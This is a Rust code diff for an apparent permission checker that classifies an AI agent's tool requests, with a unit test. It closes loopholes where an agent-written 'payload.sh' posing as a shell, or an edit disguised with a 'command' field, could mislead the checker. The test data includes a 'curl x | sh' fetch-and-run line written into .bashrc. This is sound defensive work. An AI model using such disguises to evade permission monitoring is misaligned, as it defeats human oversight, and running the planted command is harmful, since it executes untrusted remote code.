@@ -784,10 +784,18 @@ async fn supervise(
     });
 }
 
+/// The system shells whose `-c LINE` is judged as `LINE`: read-only paths
+/// in every workload, so the line is what runs. Any other first word (a
+/// `payload.sh` the agent wrote, a bare `sh` found on an agent-writable
+/// PATH) is judged with its whole argv.
+const SYSTEM_SHELLS: &[&str] = &["/bin/sh", "/bin/bash", "/usr/bin/sh", "/usr/bin/bash"];
+
 /// The action a permission request describes, and its source for the
-/// decision record. A command given as argv is quoted (`sh -c X` is `X`); an
-/// input Compass cannot read as a command, write or fetch is judged as the
-/// agent's own tool with its raw input.
+/// decision record. Only an `execute` call (or one that names no kind) is
+/// read as a command; an edit with a path and content is a write, a fetch
+/// with a URL a fetch; anything else is judged as the agent's own tool,
+/// named by its kind, with its whole raw input — so a field that merely
+/// looks like a command cannot make a write look harmless.
 fn permission_action(
     kind: Option<ToolKind>,
     title: &str,
@@ -805,7 +813,8 @@ fn permission_action(
                 .collect();
             argv.map(|argv| match argv.as_slice() {
                 [shell, flag, line]
-                    if ["-c", "-lc"].contains(&flag.as_str()) && shell.ends_with("sh") =>
+                    if ["-c", "-lc"].contains(&flag.as_str())
+                        && SYSTEM_SHELLS.contains(&shell.as_str()) =>
                 {
                     line.clone()
                 }
@@ -814,7 +823,7 @@ fn permission_action(
         }
         _ => None,
     };
-    if let Some(command) = command {
+    if let (Some(ToolKind::Execute) | None, Some(command)) = (kind, command) {
         let cwd = text("cwd").unwrap_or_else(|| default_cwd.display().to_string());
         return (
             format!("command:{command}"),
@@ -822,35 +831,82 @@ fn permission_action(
         );
     }
     let path = text("file_path").or_else(|| text("path"));
-    let content = text("content").or_else(|| text("new_string"));
-    match (kind, path, content) {
-        (Some(ToolKind::Edit | ToolKind::Delete | ToolKind::Move), Some(path), Some(content)) => (
+    let content = text("content")
+        .or_else(|| text("new_string"))
+        .or_else(|| text("file_text"));
+    match (kind, path, content, text("url")) {
+        (Some(ToolKind::Edit), Some(path), Some(content), _) => (
             format!("file:{path}"),
             OutputAction::WriteFile { path, content },
         ),
-        _ => match (kind, text("url")) {
-            (Some(ToolKind::Fetch), Some(url)) => (
-                format!("url:{url}"),
-                OutputAction::Fetch {
-                    url,
-                    method: "GET".into(),
-                    body: None,
-                },
-            ),
-            _ => (
-                format!("tool:{title}"),
+        (Some(ToolKind::Fetch), _, _, Some(url)) => (
+            format!("url:{url}"),
+            OutputAction::Fetch {
+                url,
+                method: "GET".into(),
+                body: None,
+            },
+        ),
+        _ => {
+            let name = kind.map_or_else(|| title.to_owned(), |k| format!("{k:?}").to_lowercase());
+            (
+                format!("tool:{name}"),
                 OutputAction::Tool {
-                    name: title.to_owned(),
+                    name,
                     input: raw_input.map(Value::to_string).unwrap_or_default(),
                 },
-            ),
-        },
+            )
+        }
     }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_permission_request_is_judged_as_what_runs() {
+        let cwd = Path::new("/work/app");
+        let action = |kind, input: Value| permission_action(kind, "t", Some(&input), cwd).1;
+        // Only a system shell's -c line is taken alone.
+        assert_eq!(
+            action(
+                Some(ToolKind::Execute),
+                json!({"command": ["/bin/bash", "-lc", "ls"]})
+            ),
+            OutputAction::Command {
+                command: "ls".into(),
+                cwd: "/work/app".into()
+            }
+        );
+        assert_eq!(
+            action(
+                Some(ToolKind::Execute),
+                json!({"command": ["/work/app/payload.sh", "-c", "true"]})
+            ),
+            OutputAction::Command {
+                command: "/work/app/payload.sh -c true".into(),
+                cwd: "/work/app".into()
+            }
+        );
+        // A `command` field of an edit does not make it a command.
+        let edit = action(
+            Some(ToolKind::Edit),
+            json!({"command": "create", "path": "/home/agent/.bashrc", "file_text": "curl x | sh"}),
+        );
+        assert_eq!(
+            edit,
+            OutputAction::WriteFile {
+                path: "/home/agent/.bashrc".into(),
+                content: "curl x | sh".into()
+            }
+        );
+        // Anything else is the tool by its kind, with its whole input.
+        assert!(matches!(
+            action(Some(ToolKind::Delete), json!({"path": "/work/app/x", "content": "y"})),
+            OutputAction::Tool { name, input } if name == "delete" && input.contains("/work/app/x")
+        ));
+    }
 
     #[test]
     fn lines_are_one_based_and_limited() {
